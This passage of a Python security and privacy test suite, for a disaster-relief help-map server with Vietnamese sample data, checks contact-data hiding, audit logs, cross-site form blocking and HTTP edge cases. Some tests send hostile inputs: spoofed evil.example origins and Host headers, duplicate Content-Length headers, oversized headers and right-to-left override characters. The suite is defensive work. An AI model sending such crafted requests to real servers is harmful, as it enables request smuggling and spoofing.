    def test_issue11_09_team_notes_are_contact_data(self):
        srv = self.srv
        q, tok = srv.create_ok(*A.FORMER_POINTS[0][:2], category='water')
        note = 'đã gọi 0911 222 333, nhà số 12'
        self.assertEqual(srv.post('/api/v1/requests/%s/claim' % q['code'],
                                  token=srv.token('vk')).status, 200)
        self.assertEqual(srv.post('/api/v1/requests/%s/status' % q['code'],
                                  {'status': 'in_progress', 'note': note},
                                  token=srv.token('vk')).status, 200)
        other = srv.get('/api/v1/requests/%s' % q['code'], token=srv.token('vh'))
        self.assertEqual(other.status, 200)
        self.assertNotIn('0911 222 333', other.text)
        for who in ('vk', 'coord'):
            r = srv.get('/api/v1/requests/%s' % q['code'], token=srv.token(who))
            self.assertIn('0911 222 333', r.text, who)
        self.assertIn('0911 222 333', json.dumps(srv.resident_get(q['code'], tok),
                                                 ensure_ascii=False))

    def test_issue11_09_operator_verification_notes_are_contact_data(self):
        # A verification's note written by the operator (issue 14's outcomes) is a person's
        # words like a team's: a team that does not hold the request sees the outcome and the
        # program's own text, never the operator's note.
        srv = self.srv
        q, _ = srv.create_ok(*A.FORMER_POINTS[1][:2], category='food')
        path = '/api/v1/requests/%s/verify' % q['code']
        self.assertEqual(srv.post(path, {'verified': False, 'outcome': 'unreachable',
                                         'note': 'gọi 0933 444 555 không được'},
                                  token=srv.token('coord')).status, 200)
        self.assertEqual(srv.post(path, {'outcome': 'reached'}, token=srv.token('coord')).status,
                         200)
        other = srv.get('/api/v1/requests/%s' % q['code'], token=srv.token('vh'))
        self.assertEqual(other.status, 200)
        self.assertNotIn('0933 444 555', other.text)
        h = [x for x in other.json()['request']['history'] if x['kind'] == 'verify']
        self.assertEqual([(x['new'], x['note']) for x in h],
                         [('unreachable', None), ('reached', 'verified by call-back')])
        r = srv.get('/api/v1/requests/%s' % q['code'], token=srv.token('coord'))
        self.assertIn('0933 444 555', r.text)


# ---- 10. exports and reveals not auditable ---------------------------------------------------

class AuditTest(A.ServerTest):
    """Issue 11 item 10: GET /api/v1/audit lists exports, reveals and team changes."""
    TEAMS = [('coord', 'coordinator', ()), ('vol', 'volunteer', ()), ('op', 'operator', ()),
             ('spare', 'volunteer', ())]

    def audit(self, query=''):
        r = self.srv.get('/api/v1/audit' + query, token=self.srv.token('coord'))
        self.assertEqual(r.status, 200, r.text)
        return r.json()['entries']

    def test_issue11_10_exports_and_reveals_not_auditable(self):
        # Symptom: a coordinator's export of every phone number left no trace.
        srv = self.srv
        for i in range(3):
            srv.create_ok(*A.WARD_POINTS[i][:2], category='food')
        before = len(self.audit())
        r = srv.get('/api/v1/export?format=csv', token=srv.token('coord'))
        self.assertEqual(r.status, 200)
        rows = len(r.body.decode('utf-8-sig').strip().split('\r\n')) - 1
        e = self.audit('?kind=export')[-1]
        self.assertEqual((e['kind'], e['actor'], e['team_id'], e['rows'], e['detail']),
                         ('export', 'coord', srv.team_id('coord'), rows, 'csv'))
        # A reveal to a team, and an operator's phone lookup.
        q, _ = srv.create_ok(*A.WARD_POINTS[5][:2], category='water', phone='0922 000 111')
        srv.post('/api/v1/requests/%s/claim' % q['code'], token=srv.token('vol'))
        srv.get('/api/v1/requests/%s' % q['code'], token=srv.token('vol'))
        e = self.audit('?kind=reveal&team_id=%d' % srv.team_id('vol'))
        self.assertEqual([(x['actor'], x['rows'], x['detail']) for x in e],
                         [('vol', 1, q['code'])])
        srv.get('/api/v1/requests?phone=0922000111', token=srv.token('op'))
        e = self.audit('?kind=reveal&team_id=%d' % srv.team_id('op'))
        self.assertEqual([(x['actor'], x['rows']) for x in e], [('op', 1)])
        # The command line: an export and a team change, with the user who ran them.
        out = os.path.join(srv.dir, 'cli.csv')
        srv.cli('export', '--db', srv.db, '--format', 'csv', '--out', out)
        srv.cli('team', 'disable', '--db', srv.db, str(srv.team_id('spare')))
        deadline = time.time() + 10
        while time.time() < deadline:
            kinds = [(x['kind'], x['detail']) for x in self.audit()]
            if ('team', 'disable') in kinds:
                break
            time.sleep(0.2)
        entries = self.audit()
        cli = [x for x in entries if x['actor'].startswith('command line')]
        self.assertIn(('export', 'csv'), [(x['kind'], x['detail']) for x in cli])
        self.assertIn(('team', 'disable', srv.team_id('spare')),
                      [(x['kind'], x['detail'], x['team_id']) for x in cli])
        self.assertGreater(len(entries), before)
        # Filters: since, cursor.
        later = self.audit('?since=2999-01-01T00:00:00Z')
        self.assertEqual(later, [])
        page = self.srv.get('/api/v1/audit?limit=1', token=srv.token('coord')).json()
        self.assertEqual(len(page['entries']), 1)
        self.assertIsNotNone(page['next'])
        # A team change through the API names the coordinator; a team's list of the requests
        # it holds is a reveal of each.
        r = srv.post('/api/v1/teams', {'name': 'Đội mới', 'role': 'volunteer'},
                     token=srv.token('coord'))
        self.assertEqual(r.status, 201, r.text)
        new_id, new_tok = r.json()['team']['id'], r.json()['token']
        r = srv.post('/api/v1/teams/%d/rotate' % new_id, token=srv.token('coord'))
        self.assertEqual(r.status, 200, r.text)
        new_tok = r.json()['token']
        e = self.audit('?kind=team&team_id=%d' % new_id)
        self.assertEqual([(x['actor'], x['actor_team_id'], x['detail']) for x in e],
                         [('coord', srv.team_id('coord'), 'add'),
                          ('coord', srv.team_id('coord'), 'rotate')])
        q2, _ = srv.create_ok(*A.WARD_POINTS[6][:2], category='water')
        self.assertEqual(srv.post('/api/v1/requests/%s/claim' % q2['code'],
                                  token=new_tok).status, 200)
        self.assertEqual(srv.get('/api/v1/teams/me/requests', token=new_tok).status, 200)
        e = self.audit('?kind=reveal&team_id=%d' % new_id)
        self.assertEqual([(x['rows'], x['detail']) for x in e], [(1, 'held requests')])
        # Coordinators only.
        self.assertEqual(srv.get('/api/v1/audit').status, 401)
        self.assertEqual(srv.get('/api/v1/audit', token=srv.token('vol')).status, 403)
        self.assertEqual(srv.get('/api/v1/audit?kind=x', token=srv.token('coord')).status, 400)


# ---- 11. cross-site form posts ---------------------------------------------------------------

class ReportForm:
    """POST /report as a browser's form would, with the headers given."""

    def report(self, headers, phone=None):
        h = {'Content-Type': 'application/x-www-form-urlencoded'}
        h.update(headers)
        return self.srv.post('/report', raw=form({
            'ward_code': '27541', 'address': 'Số 3', 'category': 'food',
            'phone': phone or A.fresh_phone()}), headers=h)

    def count(self):
        return len(self.srv.list_all(token=self.srv.token('coord'))['features'])


class CrossSiteTest(ReportForm, A.ServerTest):
    """Issue 11 item 11: POST /report from another site is 403; token answers no-store."""

    def test_issue11_11_cross_site_form_posts(self):
        # Symptom: POST /report with Origin: https://evil.example was accepted.
        own = 'http://127.0.0.1:%d' % self.srv.port
        before = self.count()
        for h in ({'Origin': 'https://evil.example'},
                  {'Origin': 'https://evil.example', 'Referer': own + '/'},
                  {'Referer': 'https://evil.example/page.html'},
                  {'Origin': 'null'},
                  {'Origin': 'null', 'Sec-Fetch-Site': 'cross-site'},
                  {'Sec-Fetch-Site': 'cross-site'},
                  {'Origin': own + '.evil.example'}):
            with self.subTest(headers=h):
                r = self.report(h)
                self.assertEqual(r.status, 403, r.text[:200])
                self.assertIn('text/html', r.headers.get('content-type', ''))
        self.assertEqual(self.count(), before, 'a cross-site form stored a request')
        for h in ({'Origin': own}, {'Referer': own + '/'}, {},
                  {'Origin': 'null', 'Sec-Fetch-Site': 'same-origin'}):
            with self.subTest(headers=h):
                r = self.report(h)
                self.assertEqual(r.status, 201, r.text[:300])
                self.assertEqual(r.headers.get('cache-control'), 'no-store')
        self.assertEqual(self.count(), before + 4)

    def test_issue11_11_answers_with_a_token_are_not_cached(self):
        r = self.srv.create(*A.WARD_POINTS[0][:2])
        self.assertEqual(r.status, 201)
        self.assertEqual(r.headers.get('cache-control'), 'no-store')
        r = self.report({'Origin': 'https://evil.example'})
        self.assertEqual(r.headers.get('cache-control'), 'no-store')


# ---- 12. the small ones ----------------------------------------------------------------------

def parse_prometheus(text):
    """A strict reader of the Prometheus text format 0.0.4: returns {family: type}; raises
    AssertionError on a sample without # HELP and # TYPE before it, a second HELP or TYPE, a
    family split in two, a repeated series, a bad line."""
    name_re = r'[a-zA-Z_:][a-zA-Z0-9_:]*'
    label_re = r'[a-zA-Z_][a-zA-Z0-9_]*="(?:[^"\\\n]|\\.)*"'
    sample_re = re.compile(r'^(%s)(\{(?:%s)(?:,(?:%s))*\})? (\S+)( -?\d+)?$'
                           % (name_re, label_re, label_re))
    helps, types, seen, done = {}, {}, set(), set()
    current = None
    for n, line in enumerate(text.split('\n')):
        if line == '':
            continue
        m = re.match(r'^# (HELP|TYPE) (%s) (.*)$' % name_re, line)
        if m:
            kind, fam, rest = m.groups()
            table = helps if kind == 'HELP' else types
            assert fam not in table, 'line %d: a second # %s for %s' % (n, kind, fam)
            assert fam not in done, 'line %d: %s comes back after other metrics' % (n, fam)
            if kind == 'TYPE':
                assert rest in ('counter', 'gauge', 'histogram', 'summary', 'untyped'), line
            table[fam] = rest
            if current and current != fam:
                done.add(current)
            current = fam
            continue
        assert not line.startswith('#'), 'line %d: stray comment %r' % (n, line)
        m = sample_re.match(line)
        assert m, 'line %d: not a sample: %r' % (n, line)
        name, labels, value = m.group(1), m.group(2) or '', m.group(3)
        float(value)
        fam = name
        for suffix in ('_bucket', '_sum', '_count'):
            if name.endswith(suffix) and types.get(name[:-len(suffix)]) == 'histogram':
                fam = name[:-len(suffix)]
        assert fam in helps and fam in types, 'line %d: %s without # HELP and # TYPE' % (n, fam)
        assert fam == current, 'line %d: %s sample outside its family' % (n, fam)
        key = (name, tuple(sorted(re.findall(label_re, labels))))
        assert key not in seen, 'line %d: series %s%s twice' % (n, name, labels)
        seen.add(key)
    return types


class SmallOnesTest(A.ServerTest):
    """Issue 11 item 12."""
    TEAMS = [('coord', 'coordinator', ()), ('op', 'operator', ()), ('vol', 'volunteer', ()),
             ('vol2', 'volunteer', ())]

    def test_issue11_12_metrics_is_valid_prometheus_text(self):
        # Symptom: GET and POST /api/v1/requests shared one series; metrics without # HELP.
        srv = self.srv
        srv.get('/api/v1/requests')
        lon, lat = A.WARD_POINTS[6][:2]
        phone = A.fresh_phone()
        srv.create_ok(lon, lat, phone=phone)
        self.assertEqual(srv.create(lon, lat, phone=phone, token=srv.token('op')).status, 200)
        srv.get('/api/v1/areas?level=ward')
        srv.call('DELETE', '/api/v1/areas/hamlet/NOPE', token=srv.token('coord'))
        r = srv.get('/metrics')
        self.assertEqual(r.status, 200)
        types = parse_prometheus(r.text)
        self.assertEqual(types['helpmap_http_requests_total'], 'counter')
        self.assertRegex(r.text, r'helpmap_http_requests_total\{method="GET",'
                                 r'route="/api/v1/requests",status="200"\}')
        self.assertRegex(r.text, r'helpmap_http_requests_total\{method="POST",'
                                 r'route="/api/v1/requests",status="200"\}')

    def test_issue11_12_two_content_lengths_are_refused(self):
        body = json.dumps({'lat': A.WARD_POINTS[0][1], 'lon': A.WARD_POINTS[0][0],
                           'category': 'food', 'phone': A.fresh_phone()}).encode()
        before = len(self.srv.snapshot())
        got = raw(self.srv.port, b'POST /api/v1/requests HTTP/1.1\r\nHost: x\r\n'
                  b'Content-Type: application/json\r\nContent-Length: %d\r\n'
                  b'Content-Length: %d\r\n\r\n' % (len(body), len(body) + 20) + body)
        self.assertEqual(status_of(got), 400, got[:200])
        self.assertEqual(len(self.srv.snapshot()), before)
        # The same length twice is one length.
        got = raw(self.srv.port, b'POST /api/v1/requests HTTP/1.1\r\nHost: x\r\nConnection: '
                  b'close\r\nContent-Type: application/json\r\nContent-Length: %d\r\n'
                  b'Content-Length: %d\r\n\r\n' % (len(body), len(body)) + body)
        self.assertEqual(status_of(got), 201, got[:200])

    def test_issue11_12_header_over_8_kib_is_431(self):
        # Symptom: a header block just over 8 KiB reset the connection.
        def single(n):
            return b'GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: ' + b'a' * (n - 43) + b'\r\n\r\n'

        def lines(n):
            base = b'GET /healthz HTTP/1.1\r\nHost: x\r\n'
            hdr, i = b'', 0
            while len(base) + len(hdr) + 2 < n:
                v = min(100, max(1, n - (len(base) + len(hdr) + 2) - 12))
                hdr += b'X-H%04d: ' % i + b'a' * v + b'\r\n'
                i += 1
            return base + hdr + b'\r\n'
        for shape in (single, lines):
            for n in list(range(7600, 8193, 37)) + [8192]:
                req = shape(n)
                if len(req) > 8192:
                    continue
                with self.subTest(shape=shape.__name__, size=len(req)):
                    self.assertEqual(status_of(raw(self.srv.port, req)), 200)
            for n in list(range(8200, 10000, 41)) + [8193]:
                req = shape(n)
                with self.subTest(shape=shape.__name__, size=len(req)):
                    got = raw(self.srv.port, req)
                    self.assertEqual(status_of(got), 431, got[:100])
        self.assertEqual(status_of(raw(self.srv.port, single(60000))), 431)

    def test_issue11_12_text_direction_characters_are_refused(self):
        # Symptom: a right-to-left override (U+202E) was accepted in name, note and address.
        lon, lat = A.WARD_POINTS[4][:2]
        for field in ('name', 'note', 'address'):
            for ch in BIDI:
                with self.subTest(field=field, char=hex(ord(ch))):
                    r = self.srv.create(lon, lat, **{field: 'abc' + ch + '321 gạo'})
                    self.assertError(r, 400, 'invalid_field', field)
        q, _ = self.srv.create_ok(lon, lat, category='other')
        r = self.srv.post('/api/v1/requests/%s/status' % q['code'],
                          {'status': 'duplicate', 'duplicate_of': q['code'], 'note': 'x\u202ey'},
                          token=self.srv.token('coord'))
        self.assertError(r, 400, 'invalid_field', 'note')
        r = self.srv.post('/report', raw=form({'ward_code': '27553', 'address': 'Số 1',
                                               'category': 'food', 'phone': A.fresh_phone(),
                                               'name': 'Ann\u202eA'}),
                          headers={'Content-Type': 'application/x-www-form-urlencoded'})
        self.assertEqual(r.status, 400, r.text[:300])
        p = self.srv.cli('team', 'add', '--db', self.srv.db, '--name', 'Đội\u202e1', '--role',
                         'volunteer', check=False)
        self.assertEqual(p.returncode, 2, p.stderr)

    def test_issue11_12_revoked_team_streams_and_tickets_stop(self):
        # Symptom: event streams and tickets of a disabled or rotated team kept working.
        srv = self.srv
        for what in ('rotate', 'disable'):
            name = 'vol' if what == 'rotate' else 'vol2'
            with self.subTest(what=what):
                tok = srv.token(name)
                stream = A.SSE(srv, token=tok)
                self.assertEqual(stream.status, 200)
                tr = srv.post('/api/v1/events/ticket', token=tok)
                self.assertEqual(tr.status, 200)
                ticket = tr.json()['ticket']
                public = A.SSE(srv)
                try:
                    p = srv.cli('team', what, '--db', srv.db, str(srv.team_id(name)))
                    self.assertEqual(p.returncode, 0, p.stderr)
                    with stream.cv:
                        stream.cv.wait_for(lambda: stream.done, 10)
                    self.assertTrue(stream.done, 'the stream of a %sd team still runs' % what)
                    self.assertFalse(public.done, 'a public stream ended too')
                    r = srv.get('/api/v1/events?ticket=' + ticket)
                    self.assertEqual(r.status, 401)
                finally:
                    stream.close()
                    public.close()

    def test_issue11_12_tilejson_urls_never_from_the_host_header(self):
        # Symptom: TileJSON built its tile URLs from whatever Host header came in.
        r = self.srv.get('/tiles/requests.json', headers={'Host': 'evil.example'})
        self.assertEqual(r.status, 200)
        self.assertNotIn('evil.example', r.text)
        self.assertTrue(r.json()['tiles'][0].startswith('/tiles/requests/'), r.json()['tiles'])


class PublicUrlTest(ReportForm, A.ServerTest):
    """--public-url: absolute URLs come from it; forms from it are same-origin."""
    SERVE_ARGS = ('--public-url', 'https://map.example.org/')

    def test_issue11_11_forms_from_the_public_url(self):
        for h in ({'Origin': 'https://map.example.org'},
                  {'Origin': 'https://MAP.example.org:443'},
                  {'Referer': 'https://map.example.org/index.html'}):
            with self.subTest(headers=h):
                self.assertEqual(self.report(h).status, 201)
        for h in ({'Origin': 'http://map.example.org.evil.example'},
                  {'Origin': 'https://map.example.org:8443'}):
            with self.subTest(headers=h):
                self.assertEqual(self.report(h).status, 403)

    def test_issue11_12_tilejson_urls_from_the_public_url(self):
        for layer in ('requests', 'wards', 'former_wards', 'hamlets'):
            r = self.srv.get('/tiles/%s.json' % layer, headers={'Host': 'evil.example'})
            self.assertEqual(r.status, 200)
            self.assertEqual(r.json()['tiles'],
                             ['https://map.example.org/tiles/%s/{z}/{x}/{y}.mvt' % layer])


def main():
    import argparse
    ap = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    ap.add_argument('--bin', required=True)
    ap.add_argument('--web', required=True)
    ap.add_argument('--data', required=True)
    ap.add_argument('--pg', action='store_true', help='PostGIS databases ($HM_TEST_PG_URI)')
    args, rest = ap.parse_known_args()
    A.BIN = os.path.abspath(args.bin)
    A.WEB = os.path.abspath(args.web)
    A.DATA = os.path.abspath(args.data)
    for k in ('http_proxy', 'https_proxy', 'HTTP_PROXY', 'HTTPS_PROXY'):
        os.environ.pop(k, None)
    if args.pg:
        if not os.environ.get('HM_TEST_PG_URI'):
            print('test_privacy: skipped: --pg without HM_TEST_PG_URI (run it under scripts/pg.sh '
                  'run)', file=sys.stderr)
            sys.exit(77)
        A.PG = A.PgServer(os.environ['HM_TEST_PG_URI'])
    t0 = time.monotonic()
    try:
        prog = unittest.main(argv=[sys.argv[0]] + rest, exit=False, verbosity=2)
    finally:
        if A.PG:
            A.PG.close()
    print('test_privacy%s: %d tests, %d failures, %d errors, %d skipped in %.1f s' % (
        ' (PostGIS)' if A.PG else '', prog.result.testsRun, len(prog.result.failures),
        len(prog.result.errors), len(prog.result.skipped), time.monotonic() - t0))
    sys.exit(0 if prog.result.wasSuccessful() else 1)


if __name__ == '__main__':
    main()
